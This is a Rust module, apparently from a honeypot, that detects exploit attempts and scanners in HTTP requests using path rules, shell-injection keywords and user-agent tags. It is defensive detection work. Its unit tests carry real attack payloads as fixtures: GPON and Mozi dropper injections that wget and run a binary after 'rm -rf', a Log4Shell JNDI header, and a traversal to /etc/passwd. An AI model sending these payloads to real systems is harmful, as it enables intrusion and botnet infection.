//! Exploits and scanners recognised in any HTTP request, whatever the app.
//!
//! Matching is on the raw and the percent-decoded target, the header values
//! and the body, ASCII case-insensitive. Each technique is reported once
//! per request with the place it was seen; the evidence is capped.

use mirage_core::BytesText;
use mirage_proto::http::{Request, percent_decode};
use serde_json::{Map, Value, json};

/// One recognised technique.
#[derive(Debug, Clone, PartialEq)]
pub struct Finding {
    /// Dotted id (`http.log4shell`).
    pub technique: &'static str,
    /// One human line.
    pub summary: String,
    /// Where and what.
    pub evidence: Map<String, Value>,
}

impl Finding {
    /// A finding whose evidence is the matched place and snippet.
    pub fn new(technique: &'static str, summary: &str, place: &str, snippet: &[u8]) -> Self {
        let mut evidence = Map::new();
        evidence.insert("where".into(), json!(place));
        evidence.insert("match".into(), json!(BytesText::capped(snippet, 512).0));
        Finding {
            technique,
            summary: summary.to_owned(),
            evidence,
        }
    }
}

/// Needles looked for in the decoded path.
const PATH_RULES: &[(&str, &str, &str)] = &[
    (
        "/gponform/diag_form",
        "http.gpon_rce",
        "GPON router diag_Form command injection (CVE-2018-10561/10562)",
    ),
    ("/cgi-bin/", "http.cgi_bin", "CGI script probe"),
    ("/.env", "http.env_file", "probe for a leaked .env file"),
    (
        "/.git/",
        "http.git_exposure",
        "probe for an exposed .git directory",
    ),
    ("wp-login.php", "http.wordpress", "WordPress login probe"),
    ("xmlrpc.php", "http.wordpress", "WordPress XML-RPC probe"),
    (
        "/boaform/",
        "http.boaform_rce",
        "Boa router admin form command injection",
    ),
    ("/hnap1", "http.hnap", "D-Link HNAP probe"),
    (
        "eval-stdin.php",
        "http.phpunit_rce",
        "PHPUnit eval-stdin.php RCE (CVE-2017-9841)",
    ),
    (
        "/setup.cgi",
        "http.netgear_rce",
        "Netgear setup.cgi command injection",
    ),
];

/// Needles in query or body meaning a command is being injected.
const SHELL_NEEDLES: &[&str] = &[
    "wget http",
    "wget+http",
    "curl http",
    "curl -",
    "|sh",
    "| sh",
    ";sh ",
    "chmod +x",
    "chmod 777",
    "/bin/sh",
    "/bin/bash",
    "busybox",
    "tftp -g",
    "cd /tmp",
    "$(",
    ";rm -rf",
];

/// User-agent fragments of scanners, and the tag each gets.
const SCANNERS: &[(&str, &str)] = &[
    ("zgrab", "zgrab"),
    ("masscan", "masscan"),
    ("nmap", "nmap"),
    ("nikto", "nikto"),
    ("sqlmap", "sqlmap"),
    ("nuclei", "nuclei"),
    ("censysinspect", "censys"),
    ("expanse", "expanse"),
    ("gobuster", "gobuster"),
    ("wpscan", "wpscan"),
    ("l9explore", "leakix"),
    ("dirbuster", "dirbuster"),
];

fn find_ci<'a>(hay: &'a [u8], needle: &str) -> Option<&'a [u8]> {
    let n = needle.as_bytes();
    if n.is_empty() || hay.len() < n.len() {
        return None;
    }
    hay.windows(n.len())
        .position(|w| w.eq_ignore_ascii_case(n))
        .map(|i| &hay[i..(i + 200).min(hay.len())])
}

/// Every technique seen in `req`.
pub fn inspect(req: &Request) -> Vec<Finding> {
    let mut out: Vec<Finding> = Vec::new();
    let mut add = |f: Finding| {
        if !out.iter().any(|o| o.technique == f.technique) {
            out.push(f);
        }
    };
    let raw_target = &req.target[..];
    // Twice-decoded catches %252e%252e as well.
    let target = percent_decode(&percent_decode(raw_target));
    let path = percent_decode(req.path());
    let body = &req.body[..];
    let body_dec = percent_decode(
        &body
            .iter()
            .map(|&b| if b == b'+' { b' ' } else { b })
            .collect::<Vec<_>>(),
    );

    for (needle, tech, summary) in PATH_RULES {
        if let Some(m) = find_ci(&path, needle) {
            add(Finding::new(tech, summary, "path", m));
        }
    }
    if find_ci(&target, "../").is_some() || find_ci(&target, "..\\").is_some() {
        add(Finding::new(
            "http.path_traversal",
            "path traversal",
            "target",
            &target,
        ));
    }
    // Log4Shell: anywhere a logger might see it.
    let jndi = |v: &[u8]| {
        find_ci(v, "${jndi:")
            .or_else(|| find_ci(v, "${${"))
            .or_else(|| find_ci(v, "${lower:"))
            .or_else(|| find_ci(v, "${env:"))
            .map(|m| m.to_vec())
    };
    let mut log4 = jndi(&target).map(|m| ("target".to_owned(), m));
    if log4.is_none() {
        for (n, v) in &req.headers {
            if let Some(m) = jndi(v).or_else(|| jndi(&percent_decode(v))) {
                log4 = Some((format!("header {n}"), m));
                break;
            }
        }
    }
    if log4.is_none() {
        log4 = jndi(&body_dec).map(|m| ("body".to_owned(), m));
    }
    if let Some((place, m)) = log4 {
        add(Finding::new(
            "http.log4shell",
            "Log4Shell JNDI lookup (CVE-2021-44228)",
            &place,
            &m,
        ));
    }
    let query = req.query().map(|q| {
        percent_decode(
            &q.iter()
                .map(|&b| if b == b'+' { b' ' } else { b })
                .collect::<Vec<_>>(),
        )
    });
    for (place, v) in [("query", query.as_deref()), ("body", Some(&body_dec[..]))] {
        let Some(v) = v else { continue };
        if let Some(m) = SHELL_NEEDLES.iter().find_map(|n| find_ci(v, n)) {
            add(Finding::new(
                "http.shell_injection",
                "shell command injection",
                place,
                m,
            ));
        }
        if let Some(m) = find_ci(v, "mozi.") {
            add(Finding::new("http.mozi", "Mozi botnet dropper", place, m));
        }
    }
    out
}

/// Scanner tags from the User-Agent (`scanner` plus the tool's name).
pub fn scanner_tags(req: &Request) -> Vec<String> {
    let Some(ua) = req.header("user-agent") else {
        return Vec::new();
    };
    let mut tags = Vec::new();
    for (needle, tag) in SCANNERS {
        if find_ci(ua, needle).is_some() {
            if tags.is_empty() {
                tags.push("scanner".to_owned());
            }
            tags.push((*tag).to_owned());
        }
    }
    tags
}

#[cfg(test)]
mod tests {
    use super::*;
    use mirage_proto::http::{HttpLimits, parse_request};

    fn req(s: &[u8]) -> Request {
        parse_request(s, &HttpLimits::default()).unwrap().unwrap().0
    }

    fn techniques(s: &[u8]) -> Vec<&'static str> {
        inspect(&req(s)).into_iter().map(|f| f.technique).collect()
    }

    #[test]
    fn known_exploits() {
        let body =
            "XWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://x/m+-O+->/tmp/m`";
        let gpon = format!(
            "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        assert_eq!(
            techniques(gpon.as_bytes()),
            ["http.gpon_rce", "http.shell_injection"]
        );
        assert_eq!(techniques(b"GET /.env HTTP/1.1\r\n\r\n"), ["http.env_file"]);
        assert_eq!(
            techniques(b"GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://x/a}\r\n\r\n"),
            ["http.log4shell"]
        );
        assert_eq!(
            techniques(b"GET /cgi-bin/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\n\r\n"),
            ["http.cgi_bin", "http.path_traversal"]
        );
        assert_eq!(
            techniques(b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/Mozi.a;sh+/tmp/Mozi.a HTTP/1.0\r\n\r\n"),
            ["http.shell_injection", "http.mozi"]
        );
        assert!(
            techniques(b"GET /index.html HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n").is_empty()
        );
    }

    #[test]
    fn scanners() {
        let r = req(b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n");
        assert_eq!(scanner_tags(&r), ["scanner", "zgrab"]);
        let r = req(b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\n\r\n");
        assert_eq!(scanner_tags(&r), ["scanner", "nmap"]);
    }
}
